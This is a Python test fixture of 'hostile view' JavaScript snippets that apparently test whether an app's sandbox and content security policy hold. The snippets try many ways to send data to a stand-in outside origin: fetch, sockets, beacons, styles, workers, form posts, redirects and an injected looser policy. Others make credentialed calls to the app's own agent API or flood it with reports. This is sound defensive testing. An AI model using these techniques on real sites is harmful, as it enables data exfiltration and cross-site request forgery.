"""Views that send something away: to another origin on this machine, or to the app's own addresses."""

from tests.hostile_views.hostile_view import HostileView

LIMITED = {"resourceDomains": ["https://cdn.example"], "connectDomains": ["https://api.example"]}

VIEWS = (
    HostileView(
        "fetches",
        "fetch from elsewhere",
        """
        for (const more of [{}, { mode: "no-cors" }, { method: "POST", body: "x", mode: "no-cors" }, {
          keepalive: true }])
          await attempt(`fetch ${JSON.stringify(more)}`, async () => (await fetch(`${ELSEWHERE}/fetch`, more)).type);
        await attempt("XMLHttpRequest", () => soon(new Promise((done, fail) => { const sent = new XMLHttpRequest();
          sent.open("GET", `${ELSEWHERE}/xhr`); sent.onload = () => done("loaded"); sent.onerror = fail; sent.send();
            })));
        """,
    ),
    HostileView(
        "sockets",
        "open sockets and streams to elsewhere",
        """
        for (const at of [ELSEWHERE.replace("http", "ws"), APP.replace("http",
          "ws") + "/_nicegui_ws/socket.io/?EIO=4&transport=websocket"])
          await attempt(at, () => soon(new Promise((done, fail) => { const socket = new WebSocket(at);
            socket.onopen = () => done("open"); socket.onerror = fail; })));
        await attempt("stream", () => soon(new Promise((done, fail) => {
          const stream = new EventSource(`${ELSEWHERE}/stream`);
          stream.onopen = () => done("open"); stream.onerror = fail; })));
        await attempt("transport", () => soon(new WebTransport(ELSEWHERE.replace("http:", "https:")).ready));
        """,
    ),
    HostileView(
        "beacons",
        "leave a word behind when it goes",
        """
        navigator.sendBeacon(`${ELSEWHERE}/beacon`, "x");
        addEventListener("pagehide", () => navigator.sendBeacon(`${ELSEWHERE}/gone`, "x"));
        addEventListener("visibilitychange", () => navigator.sendBeacon(`${ELSEWHERE}/gone`, "x"));
        addEventListener("unload", () => fetch(`${ELSEWHERE}/gone`, { keepalive: true, mode: "no-cors" }));
        try { fetchLater(`${ELSEWHERE}/later`, { activateAfter: 0 }); } catch { /* refused */ }
        const link = add("a", { href: "#", ping: `${ELSEWHERE}/ping` });
        link.click();
        """,
        leaves=True,
    ),
    HostileView(
        "pictures",
        "load pictures, sounds and fonts from elsewhere",
        """
        add("img", { src: `${ELSEWHERE}/img` }); new Image().src = `${ELSEWHERE}/image`;
        add("img", { srcset: `${ELSEWHERE}/set 2x` }); add("video", { src: `${ELSEWHERE}/video`,
          poster: `${ELSEWHERE}/poster` });
        add("audio", { src: `${ELSEWHERE}/audio`, autoplay: true }); add("input", { type: "image",
          src: `${ELSEWHERE}/input` });
        document.body.insertAdjacentHTML("beforeend",
          `<svg><image href="${ELSEWHERE}/svg"/><use href="${ELSEWHERE}/use#x"/></svg>
          <video><track default src="${ELSEWHERE}/track"></video>
          <picture><source srcset="${ELSEWHERE}/source"><img></picture>
          <table background="${ELSEWHERE}/table"><td background="${ELSEWHERE}/td">x</td></table>`);
        await attempt("font", () => soon(new FontFace("x", `url(${ELSEWHERE}/font)`).load()).then((font) => font &&
          "loaded"));
        """,
    ),
    HostileView(
        "styles",
        "send away what it reads by styles",
        """
        add("link", { rel: "stylesheet", href: `${ELSEWHERE}/link.css` });
        add("style", { textContent: `@import url(${ELSEWHERE}/import.css);
          body { background: url(${ELSEWHERE}/background) }
          p::after { content: url(${ELSEWHERE}/content) } p { list-style: url(${ELSEWHERE}/list);
            cursor: url(${ELSEWHERE}/cursor), auto }
          @font-face { font-family: y; src: url(${ELSEWHERE}/face) } p { font-family: y;
            mask: url(${ELSEWHERE}/mask#x) }
          p { background: image-set("${ELSEWHERE}/set" 1x); filter: url(${ELSEWHERE}/filter#x);
            border-image: url(${ELSEWHERE}/border) }` });
        """,
    ),
    HostileView(
        "scripts",
        "load scripts from elsewhere",
        """
        add("script", { src: `${ELSEWHERE}/script.js` }); add("script", { type: "module",
          src: `${ELSEWHERE}/module.js` });
        add("script", { type: "module", textContent: `import "${ELSEWHERE}/import.js"` });
        await attempt("import", async () => (await import(`${ELSEWHERE}/dynamic.js`)) && "loaded");
        const code = `try { importScripts("${ELSEWHERE}/worker.js") } catch {}
          fetch("${ELSEWHERE}/worker", { mode: "no-cors" }).then(() => postMessage("out"), () => 0);
          import("${ELSEWHERE}/worker.mjs").catch(() => 0);`;
        const at = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
        for (const type of ["classic", "module"])
          try { new Worker(at, { type }).onmessage = () => got(`a ${type} worker reached elsewhere`); } catch {
            /* refused */ }
        await rest(600);
        """,
    ),
    HostileView(
        "forms",
        "post a form elsewhere",
        """
        for (const [method, target] of [["get", "_self"], ["post", "_self"], ["post", "inside"]]) {
          add("iframe", { name: "inside" });
          const form = add("form", { action: `${ELSEWHERE}/form`, method, target });
          form.append(Object.assign(document.createElement("input"), { name: "stolen", value: "x" }));
          form.submit();
          await rest(200);
        }
        add("form", { action: `${ELSEWHERE}/button` }).append(Object.assign(document.createElement("button"), {
          id: "sends" }));
        document.querySelector("#sends").click();
        """,
        clicked=True,
        leaves=True,
    ),
    HostileView(
        "fetched_ahead",
        "have the browser fetch ahead",
        """
        for (const rel of ["prefetch", "preload", "prerender", "modulepreload", "icon", "manifest", "next", "search"])
          for (const as of ["", "script", "image", "fetch", "document"]) add("link", { rel, as,
            href: `${ELSEWHERE}/${rel}` });
        add("script", { type: "speculationrules", textContent: JSON.stringify({
          prefetch: [{ source: "list", urls: [`${ELSEWHERE}/ahead`] }], prerender: [{ source: "list",
            urls: [`${ELSEWHERE}/ahead`] }] }) });
        """,
        settles=1200,
    ),
    HostileView(
        "leaving",
        "become another site in its own frame",
        "location = `${ELSEWHERE}/self`;",
        leaves=True,
    ),
    HostileView(
        "leaving_for_us",
        "become our own page in its own frame",
        "location = `${APP}/settings`;",
        leaves=True,
    ),
    HostileView(
        "leaving_by_refresh",
        "become another site by a refresh",
        """
        const refresh = document.createElement("meta");
        refresh.httpEquiv = "refresh"; refresh.content = `0;url=${ELSEWHERE}/refresh`;
        document.head.append(refresh);
        await rest(800);
        """,
        leaves=True,
    ),
    HostileView(
        "leaving_for_data",
        "become a document without our policy",
        """
        const page = `<script>fetch("${ELSEWHERE}/data", { mode: "no-cors" })<\\/script><img src="${ELSEWHERE}/data">`;
        add("a", { href: URL.createObjectURL(new Blob([page], { type: "text/html" })) }).click();
        await rest(300);
        location = `data:text/html,${encodeURIComponent(page)}`;
        await rest(300);
        """,
        leaves=True,
    ),
    HostileView(
        "policy_of_its_own",
        "loosen the policy from inside of its document",
        """
        await attempt("fetch", async () => (await fetch(`${ELSEWHERE}/own`, { mode: "no-cors" })).type);
        add("img", { src: `${ELSEWHERE}/own` }); add("img", { src: "relative" });
        document.open();
        document.write(`<base href="${ELSEWHERE}/"><img src=written><script src=written.js><\\/script>`);
        document.close();
        await rest(400);
        """,
        markup="""<meta http-equiv="Content-Security-Policy"
        content="default-src * 'unsafe-inline' data: blob:; connect-src *">
        <base href="{{elsewhere}}/base/"><link rel=manifest href="{{elsewhere}}/manifest">""",
    ),
    HostileView(
        "more_than_allowed",
        "reach more than the domains it was allowed",
        """
        for (const at of [ELSEWHERE, APP, "https://cdn.example.evil.example", "https://xcdn.example",
          "http://cdn.example"])
          await attempt(at, async () => (await fetch(`${at}/more`, { mode: "no-cors" })).type);
        add("img", { src: `${ELSEWHERE}/more` }); add("script", { src: `${ELSEWHERE}/more.js` }); add("iframe", {
          src: ELSEWHERE });
        """,
        csp=LIMITED,
    ),
    HostileView(
        "rest_api",
        "use our REST API",
        """
        const agent = JSON.stringify({ name: "Hacked", provider: "demo", model: "agent", system_prompt: "x",
          tools: [] });
        for (const more of [{}, { credentials: "include" }, { credentials: "include", mode: "no-cors" }])
          for (const path of ["/api/v1/agents", "/api/v1/health", "/", "/v1/models"])
            await attempt(path, async () => { const reply = await fetch(APP + path, more);
              return reply.type !== "opaque" && reply.status; });
        for (const type of ["application/json", "text/plain"])
          await attempt(type, async () => (await fetch(`${APP}/api/v1/agents`, { method: "POST", body: agent,
            credentials: "include",
            mode: "no-cors", headers: { "Content-Type": type } })).type);
        navigator.sendBeacon(`${APP}/api/v1/agents`, new Blob([agent], { type: "text/plain" }));
        add("img", { src: `${APP}/api/v1/agents` }); add("script", { src: `${APP}/api/v1/agents` });
        """,
    ),
    HostileView(
        "second_origin",
        "read from the origin that it stands on",
        """
        const base = new URL(document.baseURI).origin, hosts = [base, ...(location.ancestorOrigins ?? [])];
        for (const host of new Set(hosts)) if (host.startsWith("http"))
          for (const path of ["/", document.baseURI.slice(base.length), "/api/v1/agents", "/" + "0".repeat(64)])
            await attempt(host + path, async () => (await soon(fetch(host + path)))?.status);
        for (const path of ["/api/v1/agents", "/", "/sw.js"]) {
          const asked = add("script", { src: base + path });
          await attempt(path, () => soon(new Promise((done, fail) => { asked.onload = () => done("loaded");
            asked.onerror = fail; })));
        }
        """,
    ),
    HostileView(
        "reported",
        "flood us with reports of what it was refused",
        "for (let n = 0; n < 3000; n++) { new Image().src = `${ELSEWHERE}/${n}`; if (n % 300 === 0) await rest(20); }",
        settles=1500,
    ),
)
